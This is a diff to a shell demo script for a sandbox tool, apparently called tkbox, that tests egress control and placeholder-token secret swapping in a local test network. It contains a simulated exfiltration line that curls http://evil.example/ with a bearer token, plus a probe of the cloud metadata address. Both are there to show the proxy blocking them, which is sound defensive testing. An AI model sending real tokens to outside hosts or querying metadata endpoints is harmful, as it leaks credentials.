@@ -7,12 +7,16 @@
 # mirror the image's apt sources name (the debian preset), a test origin in a
 # network namespace this script makes, a host held until a person approves it
 # (from "another terminal": a background job here), a refused metadata address;
-# stop, export and an offline verify of the bundle with its network records.
+# then the secrets door (the reference demo's secret steps, with tests/secrets/origin.py standing in for
+# api.github.com and evil.example in that namespace): `echo "$GH"` prints a placeholder, the bound host gets
+# the real token, plain HTTP to evil.example is blocked as a leak; stop, export and an offline verify of the
+# bundle with its network and secret records (and no value in it).
 # usage: tests/demo.sh BUILD_DIR
 set -uo pipefail
 BUILD=${1:-build}
-# tests/egress/lib.sh brings tests/daemon/lib.sh (signer, daemon) and the test network; its EXIT trap cleans up.
-source "$(dirname "$0")/egress/lib.sh"
+# tests/secrets/lib.sh brings tests/egress/lib.sh and tests/daemon/lib.sh (signer, daemon), the test network
+# and its origin; their EXIT trap cleans up.
+source "$(dirname "$0")/secrets/lib.sh"
 start=$(date +%s.%N)
 
 say() { printf '\n\033[1m# %s\033[0m\n' "$*"; }
@@ -39,8 +43,9 @@ eg_image
 IMG=oci:$EG_LAYOUT:latest
 echo "$IMG"
 
-say "A test origin: nginx (HTTPS, a test CA) and dnsmasq in a network namespace this script made"
-eg_up
+say "A test origin (HTTPS with a test CA, and plain HTTP) and dnsmasq in a network namespace this script made"
+echo "(tests/secrets/origin.py: origin.test.example, and api.github.com and evil.example pinned there by the daemon's --resolve; nothing leaves this machine)"
+sc_up
 
 say "A same-user dev signer (its key and log in $WORK/signer)"
 step "$SIGNER" init --dev --dir "$WORK/signer" || exit 1
@@ -48,18 +53,23 @@ signer_start || exit 1
 echo "signer serving $TKBOX_SIGNER_SOCKET"
 
 say "The daemon (exits at once when no signer answers; the first start fetches the guest kernel with apt-get)"
-show "tkbox daemon > $WORK/daemon.log 2>&1 &    # its resolver: the test dnsmasq, which forwards other names"
-eg_daemon_start || exit 1
+show "tkbox daemon --egress-ca TEST-CA --resolve api.github.com=$EG_ORIGIN_IP --resolve evil.example=$EG_OTHER_IP > $WORK/daemon.log 2>&1 &"
+echo "(its resolver: the test dnsmasq, which forwards other names; --egress-ca: the proxy trusts the test origin's CA when it reads a connection)"
+sc_daemon_start || exit 1
 sed 's/^/  /' "$WORK/daemon.log"
 
-say "Run a box: no network card, its own kernel; the allowlist is the debian preset (the hosts of the image's apt sources) and the test origin"
-show "$TKBOX run --image $IMG --name demo --allow debian --allow origin.test.example --memory 512M --disk 512M"
-eg_box demo --allow debian --allow origin.test.example || {
+say "Run a box: no network card, its own kernel; the allowlist is the debian preset (the hosts of the image's apt sources) and the test origin; a GitHub token the box never sees"
+echo "export GH_TOKEN=ghp_...    # here a random stand-in the test origin knows"
+show "$TKBOX run --image $IMG --name demo --allow debian --allow origin.test.example --secret GH=env:GH_TOKEN@api.github.com --memory 512M --disk 512M"
+GH_TOKEN=$SC_VALUE eg_box demo --allow debian --allow origin.test.example --secret GH=env:GH_TOKEN@api.github.com || {
 	cat "$WORK/run-demo.err"
 	sed 's/^/  /' "$WORK/daemon.log"
 	exit 1
 }
-echo "(the test CA appended to the box's CA bundle)"
+# With a secret the box's env points curl, python and git at the per-box CA's bundle (/etc/tkbox/ca-bundle.crt):
+# the test CA goes there too, for the origin the proxy does not read (origin.test.example).
+"$TKBOX" exec -i demo -- sh -c 'test ! -f /etc/tkbox/ca-bundle.crt || cat >> /etc/tkbox/ca-bundle.crt' <"$EG_CA" >/dev/null
+echo "(the test CA appended to the box's CA bundles)"
 step "$TKBOX" images ls
 show "$TKBOX ls --json | jq '.[0].egress'"
 "$TKBOX" ls --json | jq '(if type == "array" then .[0] else (.boxes // [])[0] end).egress'
@@ -107,6 +117,22 @@ cat "$WORK/held.out"
 say "Cloud metadata is refused before any decision, whatever the allowlist says"
 step_rc "$TKBOX" exec demo -- curl -sS -i http://169.254.169.254/latest/meta-data/
 
+say "Secrets: the box holds a placeholder, never the token"
+show "$TKBOX exec demo -- sh -c 'echo \"\$GH\"'"
+ph=$("$TKBOX" exec demo -- sh -c 'echo "$GH"')
+echo "$ph"
+say "The bound host: the proxy reads that connection (the box trusts its per-box CA), swaps the real token into Authorization and records tkbox.secret.use"
+show "$TKBOX exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://api.github.com/user'"
+"$TKBOX" exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" https://api.github.com/user'
+echo "(the origin standing in for api.github.com: real token received in Authorization $(sc_verdict .swapped.GH) time(s); anywhere else: $(sc_verdict '.violations | length'))"
+say "Plain HTTP to a host GH is not bound to: the proxy reads it, finds GH's placeholder and blocks it at once (tkbox.secret.leak)"
+show "$TKBOX exec demo -- sh -c 'curl -sS -i --max-time 30 -H \"Authorization: Bearer \$GH\" http://evil.example/'"
+"$TKBOX" exec demo -- sh -c 'curl -sS -i --max-time 30 -H "Authorization: Bearer $GH" http://evil.example/' >"$WORK/evil.out" 2>&1
+erc=$?
+cat "$WORK/evil.out"
+printf '\n(exit %d)\n' $erc
+echo "(requests that reached evil.example: $(sc_reqs 'select(.host == "evil.example")' | grep -c .))"
+
 say "Stop, export the run, verify the bundle offline"
 step "$TKBOX" stop demo
 step "$TKBOX" export demo -o "$WORK/demo.tkb"
@@ -119,6 +145,23 @@ if command -v python3 >/dev/null; then
 	bundle_egress "$WORK/demo.tkb" | jq -r 'if .type == "decision" then select(.tool == "WebFetch") | "  WebFetch decision: \(.decision) (rules \(.rule_ids | join(",")))"
 		elif .type == "result" then select(.value.bytes_up != null) | "    its result: ok=\(.ok), \(.value.bytes_up) bytes up, \(.value.bytes_down) down"
 		else "  \(.kind) \(.data | tostring | .[0:150])" end'
+	echo "the secrets door's records: $(bundle_egress "$WORK/demo.tkb" | jq -s -r '[.[] | select(.kind == "tkbox.secret.use")] | length') tkbox.secret.use, $(bundle_egress "$WORK/demo.tkb" | jq -s -r '[.[] | select(.kind == "tkbox.secret.leak")] | length') tkbox.secret.leak"
+	mkdir -p "$WORK/demo-bundle" && (cd "$WORK/demo-bundle" && python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(".")' "$WORK/demo.tkb")
+	held=$(sc_seen_in "$WORK/demo-bundle" "$TKBOX_STATE_DIR" "$WORK/daemon.log")
+	echo "the token (or its first 6 bytes, hex, base64) in the bundle, the state dir or the daemon's log: ${held:-nowhere}"
+	# The issue's acceptance, said plainly (and the demo's exit status).
+	n_use=$(bundle_egress "$WORK/demo.tkb" | jq -s '[.[] | select(.kind == "tkbox.secret.use")] | length')
+	n_leak=$(bundle_egress "$WORK/demo.tkb" | jq -s '[.[] | select(.kind == "tkbox.secret.leak")] | length')
+	acc=
+	[[ $ph =~ ^tkbox_GH_[0-9a-f]{32}$ ]] || acc+="; echo \$GH did not print a placeholder"
+	[ "$(sc_verdict .swapped.GH)" -ge 1 ] 2>/dev/null || acc+="; the bound host did not receive the real token"
+	{ head -n 1 "$WORK/evil.out" | grep -q ' 403' && grep -qi '^tkbox-rule: secret-leak' "$WORK/evil.out"; } ||
+		acc+="; plain HTTP to evil.example was not blocked as a leak"
+	[ "${n_use:-0}" -ge 1 ] || acc+="; the bundle has no tkbox.secret.use"
+	[ "${n_leak:-0}" -ge 1 ] || acc+="; the bundle has no tkbox.secret.leak"
+	[ -z "$held" ] || acc+="; the token is in $held"
+	echo "secrets acceptance: ${acc:-ok}"
+	[ -z "$acc" ] || rc=1
 fi
 say "The box's events file"
 sed 's/^/  /' "$TKBOX_STATE_DIR/boxes/demo/events.jsonl" | cut -c1-200
